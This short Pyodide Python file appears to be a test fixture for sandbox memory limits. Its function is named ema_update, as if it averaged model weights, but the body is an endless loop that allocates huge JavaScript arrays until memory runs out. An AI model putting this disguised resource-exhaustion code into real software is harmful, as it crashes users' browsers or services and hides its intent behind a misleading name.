from pyodide.ffi import to_js

Array = to_js(b"1").constructor
hoard = []


def ema_update(ema, weights, decay=0.99):
    while True:
        hoard.append(Array.new(100_000_000).fill(1))
